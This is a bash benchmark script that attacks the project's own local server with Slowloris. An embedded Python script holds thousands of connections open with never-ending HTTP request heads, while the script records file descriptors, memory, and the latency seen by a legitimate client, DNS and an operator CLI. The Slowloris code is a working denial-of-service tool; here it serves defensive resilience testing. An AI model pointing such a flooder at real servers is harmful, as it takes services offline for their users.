#!/usr/bin/env bash
# Slowloris: an attacker opens thousands of HTTP connections from one address, or from
# many (127.0.x.y), and sends each a request head that never ends, a byte every few
# seconds, opening new ones as old ones close. Meanwhile a legitimate client (127.0.0.2)
# uses the API and DNS, and an operator runs a CLI command. Prints what the attacker got,
# the server's open files, and the legitimate client's latencies and failures.
#
#   bash benches/slowloris.sh [--connections 15000] [--addresses 1] [--seconds 30]
SECONDS_=30 CONNS=15000 ADDRS=1
while [ $# -gt 0 ]; do
  case "$1" in
    --seconds) SECONDS_=$2; shift 2 ;;
    --connections) CONNS=$2; shift 2 ;;
    --addresses) ADDRS=$2; shift 2 ;;
    *) echo "unknown option $1" >&2; exit 2 ;;
  esac
done
source "$(dirname "$0")/attack_common.sh"
ulimit -n "$(ulimit -Hn)" # the attacker holds thousands of sockets
start_ipx env

fds() { ls "/proc/$IPX_PID/fd" | wc -l; }
echo "ipx on core 1 (defaults: 4096 connections, 128 per address, 10 s header timeout); $CONNS attacking connections from $ADDRS address(es) and the client on core 0"
echo "server open files before: $(fds)"
taskset -c 0 python3 - "$API" "$CONNS" "$SECONDS_" "$ADDRS" >"$WORK/attack.txt" 2>&1 <<'PY' &
import asyncio, sys, time
api, total, secs, addrs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
host, port = api.rsplit(":", 1)
stats = {"opened": 0, "refused_503": 0, "closed_by_server": 0, "connect_failed": 0}
async def loris(i):
    n = i % addrs
    src = f"127.1.{n // 250 % 250}.{1 + n % 250}"
    end = time.time() + secs
    while time.time() < end:
        try:
            r, w = await asyncio.open_connection(host, int(port), local_addr=(src, 0))
        except OSError:
            stats["connect_failed"] += 1; await asyncio.sleep(1); continue
        stats["opened"] += 1
        try:
            w.write(b"GET /v1/zones HTTP/1.1\r\nhost: x\r\n")
            await w.drain()
            while time.time() < end:
                try:
                    data = await asyncio.wait_for(r.read(256), 3)
                except asyncio.TimeoutError:
                    w.write(b"x"); await w.drain(); continue
                if data.startswith(b"HTTP/1.1 503"): stats["refused_503"] += 1
                else: stats["closed_by_server"] += 1
                break
        except (ConnectionError, OSError):
            stats["closed_by_server"] += 1
        w.close()
        await asyncio.sleep(0.5)
async def main():
    await asyncio.gather(*(loris(i) for i in range(total)))
asyncio.run(main())
print("  attacker: " + ", ".join(f"{k} {v}" for k, v in stats.items()))
PY
ATTACK=$!
PIDS+=("$ATTACK")
sleep 5
PEAK=0
echo "during the attack:"
( while kill -0 "$ATTACK" 2>/dev/null; do n=$(fds); [ "$n" -gt "$PEAK" ] && PEAK=$n && echo "$PEAK" >"$WORK/peak"; sleep 0.5; done ) &
PIDS+=($!)
taskset -c 0 nice -n -10 bash -c "$(declare -f legit); API=$API DNS_PORT=$DNS_PORT TOKEN=$TOKEN legit $((SECONDS_ - 10))"
T0=$(date +%s.%N)
if "$BIN" --data-dir "$DATA" team list >/dev/null; then CLI=ok; else CLI=FAILED; fi
T1=$(date +%s.%N)
echo "  operator CLI (team list over the socket): $CLI in $(python3 -c "print(f'{($T1 - $T0) * 1000:.0f}')") ms"
if kdig +tcp +short @127.0.0.1 -p "$DNS_PORT" www.bench.test A >/dev/null 2>&1 || dig +tcp +short @127.0.0.1 -p "$DNS_PORT" www.bench.test A >/dev/null 2>&1; then echo "  DNS over TCP: answered"; else echo "  DNS over TCP: FAILED"; fi
wait "$ATTACK" || true
cat "$WORK/attack.txt"
echo "server open files: peak $(cat "$WORK/peak" 2>/dev/null || echo '?'), after the attack $(sleep 12; fds)"
echo "server memory: RSS $(rss_mib "$IPX_PID") MiB now, peak $(hwm_mib "$IPX_PID") MiB"
